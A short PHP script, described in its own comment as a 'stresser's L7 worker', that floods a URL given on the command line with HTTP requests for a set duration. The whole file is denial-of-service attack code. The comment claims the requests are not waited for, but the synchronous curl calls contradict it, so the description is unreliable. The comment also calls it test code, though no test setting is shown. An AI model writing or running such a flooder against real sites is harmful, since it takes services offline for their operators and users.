<?php
// a stresser's L7 worker: the address and the duration from the command line, requests
// until the time is up, none of them waited for (written for the tests, never run)
$stop = time() + (int) $argv[2];
while (time() < $stop) {
    $h = curl_init();
    curl_setopt($h, CURLOPT_URL, $argv[1]);
    curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);
    curl_exec($h);
    curl_close($h);
}
